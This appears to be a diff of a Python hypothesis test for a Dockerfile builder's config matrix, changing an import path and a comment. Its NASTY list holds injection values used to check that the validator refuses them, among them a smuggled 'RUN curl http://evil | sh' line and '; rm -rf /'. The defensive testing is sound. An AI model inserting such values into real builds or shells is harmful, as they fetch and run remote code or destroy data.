@@ -16,7 +16,8 @@ import yaml
 from hypothesis import HealthCheck, Phase, assume, given, settings
 from hypothesis import strategies as st
 
-from builder import cli, matrix
+from builder import cli
+from builder.config import matrix
 from tests.conftest import REPO
 
 BASE = yaml.safe_load((REPO / "matrix.yaml").read_text())
@@ -56,7 +57,7 @@ MAPPINGS = sorted((m for m in _mappings(BASE) if not (m[-1:] and m[-1] in USER_D
 NASTY = ["\n", "\r", '"', "'", "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", " ", "\u2028", "\x00",
          "\nRUN curl http://evil | sh", "${HOME}", "; rm -rf /", "é", "😀"]
 
-# Characters no pattern in builder/matrix.py accepts anywhere: each breaks a line, quotes, expands or
+# Characters no pattern in builder/config/matrix.py accepts anywhere: each breaks a line, quotes, expands or
 # escapes in a Dockerfile or a shell. A value holding one is refused at every leaf, whatever its key.
 FORBIDDEN = ["\n", "\r", '"', "`", "$", "\\", "\x00", "\u2028", "{", "}"]
 NASTY = ["\n", "\r", '"', "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", "\u2028", "\x00",
